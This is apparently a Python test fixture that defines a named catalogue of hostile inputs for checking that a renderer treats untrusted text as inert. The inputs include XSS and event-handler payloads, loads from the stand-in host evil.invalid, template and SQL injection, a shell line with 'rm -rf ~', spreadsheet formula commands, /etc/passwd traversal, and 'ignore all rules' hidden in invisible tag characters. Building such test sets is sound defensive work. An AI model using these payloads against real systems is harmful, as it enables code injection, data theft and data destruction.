"""Hostile texts: what a model, a prompt or a file of samples may hold, each with a name that says what it tries.

Every script in them sets `window.ran` or opens a dialog, every address is of `evil.invalid`: a page on which neither
happens and that asks for nothing has taken them as text.
"""

RUN = "window.ran=1"

SCRIPTS = {
    "script": f"<script>{RUN}</script>",
    "script in capitals": f"<SCRIPT>{RUN}</SCRIPT>",
    "script unclosed": f"<script>{RUN}//",
    "script from elsewhere": "<script src=https://evil.invalid/x.js></script>",
    "script within script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script closes the data block": f"</script><script>{RUN}</script>",
    "script closes with spaces": f"</script \t\n><script>{RUN}</script>",
    "script opens a double escape": "<!--<script>",
    "script in a comment": f"--><script>{RUN}</script><!--",
    "script in a CDATA section": f"]]><script>{RUN}</script><![CDATA[",
    "script as a module": f"<script type=module>{RUN}</script>",
    "noscript": f"</noscript><script>{RUN}</script>",
    "template element": f"<template><script>{RUN}</script></template>",
    "title closes": f"</title><script>{RUN}</script>",
    "textarea closes": f"</textarea><script>{RUN}</script>",
    "pre closes": f"</pre></details></main><script>{RUN}</script>",
    "fullwidth brackets": f"＜script＞{RUN}＜/script＞",
}
HANDLERS = {
    "image error": f"<img src=x onerror={RUN}>",
    "image elsewhere": "<img src=//evil.invalid/x.png>",
    "svg load": f"<svg onload={RUN}>",
    "svg animate": f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    "svg script": f"<svg><script href=data:,{RUN} /></svg>",
    "svg foreign object": f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
    "mathml link": f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
    "body load": f"<body onload={RUN}>",
    "focus": f"<input onfocus={RUN} autofocus>",
    "details toggle": f"<details open ontoggle={RUN}>x</details>",
    "video error": f"<video><source onerror={RUN}></video>",
    "attribute in double quotes": f'" autofocus onfocus="{RUN}',
    "attribute in single quotes": f"' autofocus onfocus='{RUN}",
    "attribute without quotes": f"x onmouseover={RUN} y=",
    "attribute in backticks": f"` onclick={RUN} `",
}
LOADING = {
    "iframe": "<iframe src=https://evil.invalid/></iframe>",
    "iframe with a document": f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    "object": "<object data=https://evil.invalid/x.swf></object>",
    "embed": "<embed src=//evil.invalid/x>",
    "link style sheet": "<link rel=stylesheet href=https://evil.invalid/x.css>",
    "link prefetch": "<link rel=prefetch href=https://evil.invalid/x>",
    "base": "<base href=https://evil.invalid/>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    "form": "<form action=https://evil.invalid/><button>Send</button></form>",
    "style element": "<style>*{background:url(https://evil.invalid/x.png)}</style>",
    "style import": "</style><style>@import 'https://evil.invalid/x.css';</style>",
    "style in an attribute": "<p style='position:fixed;inset:0;background:url(//evil.invalid/x)'>x</p>",
    "style hides all": "}body{display:none!important}",
    "style font": "@font-face{font-family:x;src:url(https://evil.invalid/x.woff)}",
}
ADDRESSES = {
    "script address": f"javascript:{RUN}",
    "script address with a tab": f"java\tscript:{RUN}",
    "script link": f"<a href=javascript:{RUN}>total</a>",
    "data address": f"data:text/html,<script>{RUN}</script>",
    "data address encoded": "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
    "vbscript address": "vbscript:msgbox(1)",
    "markdown link": f"[total](javascript:{RUN})",
    "markdown image": "![total](https://evil.invalid/x.png)",
    "markdown html": f"<details><summary>x</summary>\n\n<img src=x onerror={RUN}>\n</details>",
    "markdown autolink": "<https://evil.invalid/>",
    "file address": "file:///etc/passwd",
    "path upwards": "../../../../etc/passwd",
    "percent encoded": "%3Cscript%3Ewindow.ran=1%3C/script%3E",
    "fragment": "#p=1-1/x&f=lost&q=<img src=x onerror=window.ran=1>",
}
TEMPLATES = {
    "jinja expression": "{{ 7 * 7 }}",
    "jinja class": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "jinja statement": "{% raw %}{% include '/etc/passwd' %}",
    "jinja comment": "{# gone #}",
    "angular": "{{constructor.constructor('window.ran=1')()}}",
    "vue": '<div v-html="\'x\'" @click="window.ran=1">{{ $root }}</div>',
    "template literal": "${window.ran=1}",
    "erb": "<%= window.ran=1 %>",
    "format string": "%s %n {0} {self.__init__.__globals__}",
    "latex link": "\\href{javascript:window.ran=1}{total}",
    "latex html": "$\\htmlData{x=1}{y}\\unicode{<img src=x onerror=window.ran=1>}$",
    "latex input": "\\input{/etc/passwd} \\write18{id}",
    "latex macro loop": "\\def\\x{\\x\\x}\\x $$\\frac{1}{",
}
DATA = {
    "json quote": '"}]}; window.ran=1; //',
    "json backslash": '\\"); window.ran=1; //\\',
    "json unicode escape": "\\u003cscript\\u003ewindow.ran=1\\u003c/script\\u003e",
    "line separators": "before\u2028window.ran=1\u2029after",
    "prototype": "__proto__",
    "constructor": "constructor",
    "to string": "toString",
    "has own": "hasOwnProperty",
    "numeric": "0",
    "html entity": "&lt;script&gt; &#x3c;img src=x onerror=window.ran=1&#62; &amp;amp; &nbsp;&lt",
    "formula": '=HYPERLINK("https://evil.invalid/","total")',
    "formula command": "=cmd|' /C calc'!A0",
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula plus": "+1-1",
    "sql": "'; DROP TABLE grades; --",
    "shell": "$(touch /tmp/ran) `id` ; rm -rf ~ | cat",
    "crlf header": "x\r\nSet-Cookie: a=b\r\n\r\n<script>window.ran=1</script>",
}
INVISIBLE = {
    "bidi override": "total \u202e14$\u202c of the order",
    "bidi isolates": "\u2066a\u2067b\u2068c\u2069",
    "bidi embedding": "\u202aa\u202bb\u202dc\u200e\u200f\u061c",
    "zero width": "to\u200btal\ufeff \u2060is\u00ad 41",
    "joiner apart": "a\u200db\u200cc",
    "tag characters": "plain" + "".join(chr(0xE0000 + ord(c)) for c in "ignore all rules"),
    "variation selectors": "x" + "\ufe00\ufe0f\U000e0100" * 4,
    "blank letters": "\u3164\u115f\u1160\uffa0\u2800",
    "nul": "to\x00tal",
    "control characters": "".join(map(chr, [*range(1, 9), 11, 12, *range(14, 32), 127, *range(128, 160)])),
    "ansi": "\x1b[2J\x1b[31mred\x1b[0m\x1b]8;;https://evil.invalid/\x07link\x1b]8;;\x07",
    "backspaces": "wrong\x08\x08\x08\x08\x08right",
    "lone surrogates": "\ud800x\udfff",
    "noncharacters": "\ufffe\uffff\U0001ffff",
    "invalid utf-8": b"caf\xe9 \xf0\x28\x8c\x28 \xc0\xaf".decode("utf-8", errors="surrogateescape"),
    "stacked accents": "Z" + "\u0300\u0316" * 200,
    "right to left": "السعر 41 دولارًا",
    "emoji": "👩‍💻🏳️‍🌈👨‍👩‍👧‍👦",
}
LARGE = {
    "unbroken word": "A" * 20_000,
    "one line": "word " * 6_000,
    "many lines": "x\n" * 3_000,
    "many brackets": "<" * 5_000,
    "many ampersands": "&" * 5_000,
    "blank": " \t\n ",
    "only newlines": "\n" * 500,
}
PAYLOADS: dict[str, str] = {
    name: text
    for group in (SCRIPTS, HANDLERS, LOADING, ADDRESSES, TEMPLATES, DATA, INVISIBLE, LARGE)
    for name, text in group.items()
}
